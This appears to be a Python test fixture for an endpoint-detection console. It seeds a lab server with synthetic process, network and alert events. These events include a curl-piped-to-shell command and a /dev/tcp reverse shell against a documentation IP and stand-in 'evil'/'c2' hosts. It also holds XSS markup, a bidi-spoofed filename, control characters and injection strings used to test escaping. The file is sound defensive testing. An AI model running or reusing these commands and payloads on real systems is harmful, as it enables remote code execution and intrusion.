# SPDX-License-Identifier: Apache-2.0
"""What the console is tested with: a real server, agents made of Python, events and alerts of our own, hostile ones too."""
import base64
import hashlib
import hmac
import json
import os
import random
import re
import struct
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "system"))
import lab  # noqa: E402
from server_client import BOOT, Client, Peer, zstd  # noqa: E402, F401

PASSWORD = "correct horse battery staple"
BIDI = "invoice\u202efdp.exe"
MARKUP = "<img src=x onerror=document.title='owned'><script>document.title='owned'</script>"
CONTROLS = "bash -c \x1b[2J\x07 a\tb\u200bc\u2028d"
LONG = "long " + "A" * 5000 + " end-of-it"
MESSAGES = {"Download piped into a shell": "A shell runs what a program fetched from the network, without a file in between.",
            "Reverse shell": "A shell has its input and output on a connection to another host."}
HEALTH = {"db": ["the spool is 82 % full"]}
HOOKS = ("tp_btf/sched_process_exec tp_btf/sched_process_fork tp_btf/sched_process_exit tp/syscalls/sys_exit_openat "
         "tp/syscalls/sys_exit_connect tp/syscalls/sys_exit_accept4 fentry/tcp_close fentry/security_file_open "
         "fentry/do_init_module fentry/ptrace_attach").split()
METRICS = {"engine": {"source": "ebpf", "events": 184220, "memory_bytes": 9175040},
           "spool": {"sealed": 412, "acked": 411, "waiting": 1, "bytes": 91204, "bytes_max": 268435456, "evicted": 0, "corrupt": 0},
           "shipper": {"sent": 412, "retried": 2, "poison": 0, "bytes": 6120448},
           "sensor": {"hooks_live": 10, "hooks_missing": 1, "missing": "lsm/bprm_check_security", "governor": "full", "cpu_permille": 4},
           "rules": {"rules": 214, "matched": 9, "alerts": 4, "suppressed": 5}, "core_restarts": 0, "uptime_ms": 86210334}
TAKES = {"boot_id": BOOT, "commands": ["kill_process", "update_rules"]}
HOSTILE = [MARKUP, BIDI, CONTROLS, LONG, "=HYPERLINK(\"http://x\")", "${7*7}{{7*7}}"]


def stamp(us):
    return time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(us // 1000000)) + ".%06dZ" % (us % 1000000)


def now_us():
    return time.time_ns() // 1000


def line(kind, event_type, seq, at, raw, process=None, source="kernel", module="kernel_callback"):
    out = {"ts": stamp(at), "module": module, "event_type": event_type}
    if process:
        out["process"] = process
    out.update(raw=raw, source=source, kind=kind, event_version=7, seq=seq)
    if source == "kernel":
        out.update(drop_count=0, trunc_count=0)
    return out


NUMBERS = ("creating_pid gid euid egid suid sgid fsuid fsgid login_uid pgid sid cap_effective cap_permitted cap_bounding "
           "cgroup_id ns_pid_nr ns_user ns_pid ns_mnt ns_net ns_uts ns_ipc ns_cgroup exe_inode exe_dev exe_mode exe_nlink "
           "exe_uid exe_size argv_size").split()


def create(seq, at, pid, path, command, key, parent_key, ppid=1, user="www-data"):
    raw = {n: 0 for n in NUMBERS}
    raw.update(pid=pid, parent_pid=ppid, process_key="%016x" % key, parent_key="%016x" % parent_key, image_path=path,
               command_line=command, comm=path.rsplit("/", 1)[1][:15], uid=33, user=user)
    return line("ProcessCreate", "process_create", seq, at, raw,
                {"pid": pid, "ppid": ppid, "key": "%016x" % key, "parent_key": "%016x" % parent_key, "path": path,
                 "command_line": command, "name": path.rsplit("/", 1)[1], "user": user, "uid": 33})


def connect(seq, at, pid, key, ip, port):
    raw = {"pid": pid, "process_key": "%016x" % key, "protocol": "tcp", "protocol_code": 6, "dst_ip": ip, "dst_port": port,
           "uid": 33}
    return line("NetworkConnect", "network_connect", seq, at, raw, {"pid": pid, "key": "%016x" % key, "uid": 33})


def dns(seq, at, pid, key, name):
    raw = {"pid": pid, "process_key": "%016x" % key, "query_name": name, "query_type": 1, "answers": ["203.0.113.9"]}
    return line("DnsQuery", "dns_query", seq, at, raw, {"pid": pid, "key": "%016x" % key})


def ended(seq, at, pid, key, comm):
    raw = {"pid": pid, "exit_code": 1, "process_key": "%016x" % key, "parent_pid": 1, "uid": 0, "comm": comm}
    return line("ProcessExit", "process_terminate", seq, at, raw, {"pid": pid, "key": "%016x" % key})


def alert(seq, at, n, title, severity, command, path, key, pid, evidence=(), ancestry=()):
    code = ["informational", "low", "medium", "high", "critical"].index(severity) + 1
    rule = re.sub("[^a-z0-9]+", "_", title.lower())[:40]
    raw = {"alert_id": "%032x" % n, "rule_id": "wedr_" + rule, "rule_title": title, "rule_language": "sigma",
           "severity": severity, "severity_code": code, "message": MESSAGES.get(title, title), "tags": ["attack.execution", "attack.t1059.004"],
           "event_time": stamp(at), "pid": pid, "process_key": "%016x" % key, "image_path": path, "command_line": command,
           "user": "www-data", "entity": "pid:%d" % pid, "suppressed": n % 3, "match_count": 1, "rules_serial": "1",
           "evidence": list(evidence), "ancestry": list(ancestry),
           "matched": [{"field": "command_line", "value": command[:200]}]}
    return line("Alert", "alert", seq, at, raw, {"pid": pid, "key": "%016x" % key, "path": path, "command_line": command,
                                                 "user": "www-data"}, source="agent", module="agent")


def send(peer, stream, first, lines):
    body = zstd(b"".join(json.dumps(x, separators=(",", ":")).encode() + b"\n" for x in lines))
    answer = peer.post(first, len(lines), body=body, stream=stream)
    assert answer.status == 202 and answer.json["skipped"] == 0, answer
    return answer


def sensor_state(seq, at):
    raw = {"source": "ebpf", "level": "degraded", "reason": "lsm/bprm_check_security: the kernel has no BPF LSM", "hooks_live": HOOKS,
           "hooks_missing": ["lsm/bprm_check_security: the kernel has no BPF LSM"]}
    return line("SensorState", "sensor_state", seq, at, raw, source="agent", module="agent")


def totp(secret, at=None):
    """The code of an authenticator app (RFC 6238)."""
    key = base64.b32decode(secret + "=" * (-len(secret) % 8))
    digest = hmac.new(key, struct.pack(">Q", int((at or time.time()) // 30)), hashlib.sha1).digest()
    at = digest[-1] & 15
    return "%06d" % ((struct.unpack(">I", digest[at:at + 4])[0] & 0x7FFFFFFF) % 1000000)


def sign_in(server, name, password, **more):
    """A session as a program has it: its cookie and CSRF token."""
    body = json.dumps({"username": name, "password": password, **more})
    answer = Client(server).request("POST", "/api/v1/session", body, {"Content-Type": "application/json"})
    assert answer.status == 200, answer
    return answer.headers["set-cookie"].split(";")[0], answer.json["csrf"]


def change(server, session, method, path, body=None):
    """What a signed-in program changes; the answer, which must be a good one."""
    headers = {"Cookie": session[0], "X-CSRF-Token": session[1]}
    if body is not None:
        headers["Content-Type"] = "application/json"
    answer = Client(server).request(method, "/api/v1" + path, json.dumps(body) if body is not None else None, headers)
    assert 200 <= answer.status < 300, answer
    return answer


def settle(server, name, once):
    """Changes a one-time password to PASSWORD, without a browser."""
    change(server, sign_in(server, name, once), "POST", "/account/password", {"current": once, "new": PASSWORD})


def first_password(server):
    with open(os.path.join(server.data, "first-password"), encoding="ascii") as f:
        return f.read().strip()


def take(peer):
    """What the endpoint is given now."""
    answer = peer.client().request("GET", peer.path("commands"))
    assert answer.status == 200, answer
    return answer.json["pending_commands"]


def done(peer, item, result, status="success"):
    answer = peer.client().request("POST", peer.path("commands/%s/ack" % item["id"]), json.dumps({"status": status, "result": result}))
    assert answer.status == 204, answer


class World:
    """One server with two endpoints, some thousand events and a few alerts; made once for most of the tests."""

    def __init__(self):
        self.lab = lab.Lab()
        self.server = self.lab.server()
        self.next = {}
        self.alerts = 0

    def close(self):
        self.lab.__exit__(None, None, None)

    def first_password(self):
        return first_password(self.server)

    def user(self, name, role):
        """A new user's one-time password."""
        return lab.run(lab.SERVER, "user", "add", name, role, "--data", self.server.data).stdout.strip()

    def peer(self, name, hostname):
        p = Peer(self.server, self.lab.folder, name)
        answer = p.enroll(hostname=hostname)
        assert answer.status == 201, answer
        self.beat(p, name)
        self.next[p.id] = {}
        return p

    def beat(self, p, name=""):
        p.heartbeat(health=HEALTH.get(name, []), status="degraded" if name in HEALTH else "healthy", metrics=METRICS, **TAKES)

    def send(self, peer, stream, make):
        """make(first seq) gives the lines; they are stored when this returns."""
        first = self.next[peer.id].get(stream, 1)
        lines = make(first)
        send(peer, stream, first, lines)
        self.next[peer.id][stream] = first + len(lines)

    def archive(self, count):
        """A new endpoint with so many events of one kind."""
        peer, at, left = self.peer("archive", "archive-1"), now_us() - 3_000_000_000, count
        like = json.dumps(ended(7070707, at, 300, 0x300, "worker"), separators=(",", ":"))
        before, rest = like.split(stamp(at))
        head, tail = rest.split("7070707")
        while left:
            first, n = self.next[peer.id].get("kernel.critical", 1), min(left, 10_000)
            body = zstd("".join("%s%s%s%d%s\n" % (before, stamp(at + 29_000 * i), head, first + i, tail)
                                for i in range(n)).encode())
            answer = peer.post(first, n, body=body, stream="kernel.critical")
            assert answer.status == 202 and answer.json["skipped"] == 0, answer
            self.next[peer.id]["kernel.critical"] = first + n
            left -= n
        return peer

    def a_day(self):
        """What a quiet server does in a day: the same every time, so that pictures are."""
        rng, at = random.Random(7), now_us() - 86_000_000_000
        jobs = (("/usr/sbin/cron", "CRON -f", "root"), ("/usr/bin/apt-get", "apt-get -qq update", "root"),
                ("/usr/sbin/logrotate", "logrotate /etc/logrotate.conf", "root"), ("/usr/bin/php8.2", "php -q /srv/app/queue.php", "www-data"),
                ("/usr/bin/rsync", "rsync -a /srv/app/ backup:/srv/app/", "backup"), ("/usr/bin/ssh", "ssh -T git@git.example.net", "deploy"))
        times = sorted(int(rng.random() * 85_000_000_000) for _ in range(2600))
        times = [t for t in times if rng.random() < 0.35 + 0.65 * abs((t / 3_600_000_000 % 24) - 12) / 12]

        def processes(seq):
            out = []
            for i, t in enumerate(times):
                path, command, user = jobs[rng.randrange(len(jobs))]
                key = 0x9000 + i
                out.append(create(seq + 2 * i, at + t, 2000 + i, path, command, key, 0x1, user=user))
                out.append(ended(seq + 2 * i + 1, at + t + rng.randrange(900_000), 2000 + i, key, path.rsplit("/", 1)[1]))
            return out

        def traffic(seq):
            names = ("deb.example.org", "git.example.net", "api.example.com", "time.example.org")
            out = []
            for i, t in enumerate(times):
                out.append(dns(seq + 2 * i, at + t + 2000, 2000 + i, 0x9000 + i, names[rng.randrange(4)]))
                out.append(connect(seq + 2 * i + 1, at + t + 9000, 2000 + i, 0x9000 + i, "198.51.100.%d" % rng.randrange(1, 9), 443))
            return out
        self.send(self.web, "kernel.critical", processes)
        self.send(self.web, "kernel.bulk", traffic)

    def fill(self):
        at = now_us() - 600_000_000
        self.web, self.db = self.peer("web", "web-1"), self.peer("db", MARKUP[:60] + BIDI)
        self.a_day()
        self.send(self.web, "agent", lambda s: [sensor_state(s, at - 1_000_000)])

        def tree(seq):
            return [create(seq, at, 100, "/usr/sbin/nginx", "nginx -g daemon off;", 0x100, 0x1),
                    create(seq + 1, at + 1000, 101, "/bin/sh", "sh -c curl http://203.0.113.9/x | sh", 0x101, 0x100, 100),
                    create(seq + 2, at + 2000, 102, "/usr/bin/curl", "curl http://203.0.113.9/x", 0x102, 0x101, 101),
                    create(seq + 3, at + 2500, 103, "/tmp/" + BIDI, CONTROLS, 0x103, 0x101, 101),
                    ended(seq + 4, at + 9000, 102, 0x102, "curl")]
        self.send(self.web, "kernel.critical", tree)
        self.send(self.web, "kernel.bulk", lambda s: [connect(s, at + 3000, 102, 0x102, "203.0.113.9", 80),
                                                      dns(s + 1, at + 3100, 102, 0x102, "evil.example.net"),
                                                      dns(s + 2, at + 40_000_000, 101, 0x101, "c2.example.net"),
                                                      connect(s + 3, at + 40_900_000, 101, 0x101, "203.0.113.9", 443)])
        self.send(self.db, "kernel.critical", lambda s: [
            create(s + i, at + i, 200 + i, "/usr/bin/evil", text, 0x200 + i, 0x1) for i, text in enumerate(HOSTILE)])
        self.add_alerts()

    def add_commands(self, name):
        """What rita told the endpoints: one done, one refused in hostile words, one withdrawn, one that waits."""
        session = sign_in(self.server, name, PASSWORD)
        kill = {"type": "kill_process", "payload": {"pid": 102, "process_key": "%016x" % 0x102}, "reason": "Alert 1"}
        rules = {"type": "update_rules", "expires_in_seconds": 86400}

        def order(peer, body):
            return change(self.server, session, "POST", "/endpoints/%s/commands" % peer.id, body).json["id"]
        order(self.web, kill)
        done(self.web, take(self.web)[0], {"action": "kill_process", "result": "done", "detail": "", "pid": 102,
                                           "process_key": "%016x" % 0x102, "duration_us": 1834})
        order(self.db, dict(kill, payload={"pid": 200, "process_key": "%016x" % 0x200}, reason="It calls itself " + BIDI))
        done(self.db, take(self.db)[0], {MARKUP: LONG[:1500], "result": "protected", "detail": CONTROLS}, "failed")
        change(self.server, session, "DELETE", "/commands/" + order(self.web, rules))
        order(self.web, rules)

    def add_alerts(self):
        at = now_us()
        then = at - 599_997_000
        shell = {"epoch": "%016x" % self.web.epoch, "stream": "kernel.critical", "seq": 2,
                 "event": create(2, then, 101, "/bin/sh", "sh -c curl http://203.0.113.9/x | sh", 0x101, 0x100, 100)}
        line_up = [{"process_key": "%016x" % k, "pid": p, "image_path": i, "command_line": c} for k, p, i, c in
                   ((0x101, 101, "/bin/sh", "sh -c curl http://203.0.113.9/x | sh"), (0x100, 100, "/usr/sbin/nginx", "nginx -g daemon off;"))]
        self.send(self.web, "alert", lambda s: [
            alert(s, then, 1, "Download piped into a shell", "high", "sh -c curl http://203.0.113.9/x | sh", "/bin/sh", 0x101, 101,
                  [shell], line_up),
            alert(s + 1, then + 41_000_000, 2, "Reverse shell", "critical", "bash -i >& /dev/tcp/203.0.113.9/443", "/bin/bash", 0x101, 101),
            alert(s + 2, then + 95_000_000, 3, MARKUP, "medium", CONTROLS, "/tmp/" + BIDI, 0x103, 103),
            alert(s + 3, at, 4, "Quiet one", "low", LONG, "/usr/bin/long", 0x101, 101)])
        self.alerts += 4
        lab.wait_for("the alerts", 15, lambda: self.server.one("SELECT count(*) AS n FROM alerts")["n"] >= self.alerts)
